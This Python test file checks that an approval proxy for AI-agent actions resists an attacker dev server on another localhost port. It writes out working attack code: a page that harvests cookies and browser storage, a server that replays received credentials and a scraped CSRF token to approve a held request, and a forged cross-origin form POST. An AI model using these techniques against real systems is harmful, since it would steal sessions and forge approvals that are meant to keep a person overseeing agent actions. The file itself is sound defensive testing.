"""Finding 10, tried the way an attacker would: a dev server an agent started on another port
of 127.0.0.1, opened by a person who is signed in to the admin page in the same browser.

Cookies are not scoped by port, so a sign-in cookie would reach that server, which could then
read the page's CSRF token and approve its own held request. The attacker here records every
header the browser sends it, tries that replay from its own side, and its page tries a
cross-origin fetch and a form POST to the approve endpoint. Nothing may carry the admin
credential there and nothing may be approved."""

from __future__ import annotations

import json
import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import aiohttp
import pytest
from aiohttp import web

from tests.admin.browser import ARGS, CHROMIUM, PAGE_KEY, WAIT, require_chromium
from tests.conftest import received
from tests.support.holding import in_thread, wait_pending
from tests.support.proc import Undoproxy
from tests.support.servers import ThreadedServer

require_chromium()

from playwright.sync_api import Browser, Page, Response, expect, sync_playwright  # noqa: E402

RULES: list[dict[str, Any]] = [
    {
        "name": "hold-deletes",
        "match": {"host": "127.0.0.1", "method": "DELETE", "path": "/attack/**"},
        "action": "hold",
        "risk": "high",
    }
]
expect.set_options(timeout=WAIT)


@dataclass
class Loot:
    """Everything the attacker's server got."""

    headers: list[dict[str, str]] = field(default_factory=list)  # every request's headers
    reports: list[dict[str, Any]] = field(default_factory=list)  # what its page found
    replays: list[int] = field(default_factory=list)  # statuses of its server-side replays


LOOT: web.AppKey[Loot] = web.AppKey("loot", Loot)
ATTACK_PAGE = """<!doctype html><title>my dev server</title>
<h1>Totally harmless dev server</h1>
<form id="forge" method="post" action="{approve}" enctype="text/plain">
<input type="hidden" name='{{"reason":"' value='forged"}}'>
<button type="submit" id="go">Submit</button></form>
<script>
(async () => {{
  const found = {{cookie: document.cookie, session: {{}}, local: {{}}, fetches: []}};
  for (let i = 0; i < sessionStorage.length; i++) {{
    const k = sessionStorage.key(i); found.session[k] = sessionStorage.getItem(k);
  }}
  for (let i = 0; i < localStorage.length; i++) {{
    const k = localStorage.key(i); found.local[k] = localStorage.getItem(k);
  }}
  for (const init of [
    {{method: "POST", mode: "no-cors", credentials: "include", body: "{{}}"}},
    {{method: "POST", credentials: "include",
      headers: {{"Content-Type": "application/json"}}, body: "{{}}"}},
  ]) {{
    try {{
      const r = await fetch("{approve}", init);
      found.fetches.push(r.type + " " + r.status);
    }} catch (e) {{ found.fetches.push("error " + e.message); }}
  }}
  await fetch("/report", {{method: "POST", body: JSON.stringify(found)}});
  document.title = "done";
}})();
</script>"""


async def _attack_page(request: web.Request) -> web.Response:
    loot = request.app[LOOT]
    loot.headers.append(dict(request.headers))
    admin, approval = request.query["admin"], request.query["approval"]
    approve = f"{admin}/api/approvals/{approval}/approve"
    # The replay that worked against the cookie: whatever credential the browser sent us,
    # read the page's CSRF token with it and approve from here (a server sends no Origin).
    creds = {k: v for k, v in request.headers.items() if k in ("Cookie", "Authorization")}
    async with aiohttp.ClientSession() as client:
        async with client.get(f"{admin}/", headers=creds) as page:
            text = await page.text()
        csrf = re.search(r'name="csrf-token" content="([^"]+)"', text)
        forged = {**creds, "X-CSRF-Token": csrf.group(1) if csrf else ""}
        async with client.post(approve, json={}, headers=forged) as answer:
            loot.replays.append(answer.status)
    return web.Response(
        text=ATTACK_PAGE.format(approve=approve), content_type="text/html", charset="utf-8"
    )


async def _report(request: web.Request) -> web.Response:
    request.app[LOOT].headers.append(dict(request.headers))
    request.app[LOOT].reports.append(json.loads(await request.text()))
    return web.Response(text="thanks")


@pytest.fixture
def attacker() -> Iterator[ThreadedServer]:
    app = web.Application()
    app[LOOT] = Loot()
    app.router.add_get("/", _attack_page)
    app.router.add_post("/report", _report)
    server = ThreadedServer(app).start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def up(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Undoproxy]:
    config = {"approvals": {"timeout": "60s"}, "rules": RULES}
    instance = Undoproxy(tmp_path_factory.mktemp("page-origin"), config).start()
    yield instance
    instance.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as p:
        launched = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield launched
        launched.close()


def sign_in(page: Page, up: Undoproxy, name: str) -> None:
    page.goto(up.admin_url + "/")
    expect(page.locator("h1")).to_have_text("Sign in")
    page.fill("input[name=token]", up.token)
    page.fill("input[name=name]", name)
    page.click("button[type=submit]")
    expect(page.locator(".who strong")).to_have_text(name)
    expect(page.locator("#live")).to_have_text("live")


def test_a_dev_server_on_another_port_gets_no_admin_credential_and_cannot_approve(
    browser: Browser,
    up: Undoproxy,
    attacker: ThreadedServer,
    plain_upstream: ThreadedServer,
    session_id: str,
    tmp_path: Path,
) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(WAIT)
    sign_in(page, up, "Ada")
    stored = page.evaluate(f"sessionStorage.getItem('{PAGE_KEY}')")
    key = json.loads(stored)["key"] if stored else None
    secrets = [s for s in (key, up.token, *(c["value"] for c in context.cookies())) if s]

    target = f"{plain_upstream.base_url}/attack/{uuid.uuid4().hex}"
    held = in_thread(lambda: up.agent(session_id).delete(target, timeout=60))
    approval = wait_pending(up, session_id)
    expect(page.locator(f"#approval-{approval['id']}")).to_be_visible()

    # The person opens the agent's dev server in the same tab.
    to_admin: list[Response] = []
    page.on("response", lambda r: to_admin.append(r) if r.url.startswith(up.admin_url) else None)
    page.goto(f"{attacker.base_url}/?admin={up.admin_url}&approval={approval['id']}")
    expect(page).to_have_title("done")
    with page.expect_navigation() as navigation:  # the forged form POST, cross-origin
        page.click("#go")
    forged = navigation.value
    page.screenshot(path=tmp_path / "forged.png")

    loot = attacker.app[LOOT]
    assert loot.headers, "the attacker's page was not loaded"
    for headers in loot.headers:
        assert "Cookie" not in headers and "Authorization" not in headers, headers
        assert not any(s in v for s in secrets for v in headers.values()), headers
    (report,) = loot.reports
    assert report["cookie"] == "" and report["session"] == {} and report["local"] == {}
    assert not any(s in json.dumps(report) for s in secrets)
    assert loot.replays and all(status == 401 for status in loot.replays), loot.replays
    assert forged is not None and forged.status == 403
    assert json.loads(forged.text())["error"] == "cross_origin"
    approve_calls = [r for r in to_admin if "/approve" in r.url]
    assert approve_calls and all(r.status == 403 for r in approve_calls), [
        (r.url, r.status) for r in approve_calls
    ]

    assert up.api("GET", f"/api/approvals/{approval['id']}").json()["state"] == "pending"
    assert not held.done()
    # Nothing but the read that shows the person what the DELETE would remove (the preview).
    reached = [r.method for r in received(plain_upstream) if r.path == urlsplit(target).path]
    assert set(reached) <= {"GET"}, reached
    assert context.cookies() == []  # nothing the browser attaches by itself
    assert key is not None and key.startswith("page_")  # a page key, kept in this tab only

    # Back on the admin page in the same tab: still signed in, and it decides as before.
    page.goto(up.admin_url + "/")
    expect(page.locator(".who strong")).to_have_text("Ada")
    card = page.locator(f"#approval-{approval['id']}")
    card.locator(".reason").fill("not from a dev server")
    card.locator("button.deny").click()
    assert held.result(20).status_code == 403
    decided = up.api("GET", f"/api/approvals/{approval['id']}").json()
    assert (decided["state"], decided["decided_by"]) == ("denied", "Ada")
    context.close()


def test_a_new_tab_of_another_port_cannot_read_the_sign_in(
    browser: Browser, up: Undoproxy, attacker: ThreadedServer
) -> None:
    context = browser.new_context()
    admin = context.new_page()
    admin.set_default_timeout(WAIT)
    sign_in(admin, up, "Grace")
    other = context.new_page()
    other.set_default_timeout(WAIT)
    other.goto(f"{attacker.base_url}/?admin={up.admin_url}&approval=ap_none")
    expect(other).to_have_title("done")
    (report,) = attacker.app[LOOT].reports
    assert report["cookie"] == "" and report["session"] == {} and report["local"] == {}
    for headers in attacker.app[LOOT].headers:
        assert "Cookie" not in headers and "Authorization" not in headers
    context.close()
